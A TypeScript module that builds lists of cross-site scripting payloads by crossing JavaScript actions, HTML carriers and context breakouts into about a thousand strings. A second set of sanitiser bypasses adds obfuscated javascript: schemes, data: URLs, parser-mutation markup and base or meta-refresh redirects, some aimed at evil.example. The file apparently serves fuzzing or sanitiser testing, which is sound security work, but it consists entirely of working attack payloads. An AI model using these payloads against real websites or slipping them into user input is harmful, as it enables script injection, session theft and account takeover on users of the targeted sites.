const ACTIONS = ['alert(1)', 'fetch("/stolen")', 'window.ran=1', 'top.ran=1', 'eval("window.ran=1")'];

const CARRIERS = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror='${js}'>`,
  (js: string) => `<svg onload='${js}'></svg>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<iframe srcdoc='<script>${js}</script>'></iframe>`,
  (js: string) => `<a href='javascript:${js}'>x</a>`,
  (js: string) => `<form action='javascript:${js}'><button>x</button></form>`,
  (js: string) => `<details open ontoggle='${js}'>`,
  (js: string) => `<input autofocus onfocus='${js}'>`,
  (js: string) => `<body onload='${js}'>`,
];

const BREAKOUTS = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</noscript>',
  '*/',
  '\\u003c',
  '&lt;/p&gt;',
  '{{',
  '${',
  '\u0000',
  '</style>',
  ']]>',
  '`',
  '%3C',
  '<!--',
  '"><',
];

/** A thousand payloads for any field: every action in every carrier after every way out of a context. */
export const xssPayloads: readonly string[] = ACTIONS.flatMap((js) =>
  CARRIERS.flatMap((carry) => BREAKOUTS.map((before) => before + carry(js))),
);

/** Ways past a sanitiser: schemes in disguise, allowed tags with handlers, and markup that a parser may reorder. */
const MARKUP = [
  (js: string) => `<a href="java&#x09;script:${js}">x</a>`,
  (js: string) => `<a href="&#106;&#97;vascript&colon;${js}">x</a>`,
  (js: string) => `<a href="\u0001javascript:${js}">x</a>`,
  (js: string) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  (js: string) => `<a href="//evil.example" onclick='${js}'>x</a>`,
  (js: string) => `<h2 id="main" onmouseover='${js}'>x</h2>`,
  (js: string) => `<p style="animation:x" onanimationstart='${js}'>x</p>`,
  (js: string) => `<table background="javascript:${js}"><tr><td onclick='${js}'>x</table>`,
  (js: string) => `<table><caption><img src=x onerror='${js}'></caption><tr><th>x</table>`,
  (js: string) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${js}'&gt;">`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror='${js}'>">`,
  (js: string) => `<svg></p><style><a id="</style><img src=1 onerror='${js}'>">`,
  (js: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${js}'>`,
  (js: string) => `<template><img src=x onerror='${js}'></template>`,
  (js: string) => `<p title=">"onclick='${js}'>x</p>`,
  (js: string) => `<blockquote cite="javascript:${js}"/onclick='${js}'>x</blockquote>`,
  (js: string) => `<![CDATA[<img src=x onerror='${js}'>]]>`,
  (js: string) => `<br/onload='${js}'><hr onfocus='${js}' tabindex=1 autofocus>`,
  (js: string) =>
    `<base href="https://evil.example/"><link rel=import href="data:text/html,<script>${js}</script>">`,
  (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
];

/** Payloads for fields with HTML, besides all of `xssPayloads`. */
export const xssMarkup: readonly string[] = ACTIONS.flatMap((js) => MARKUP.map((carry) => carry(js)));
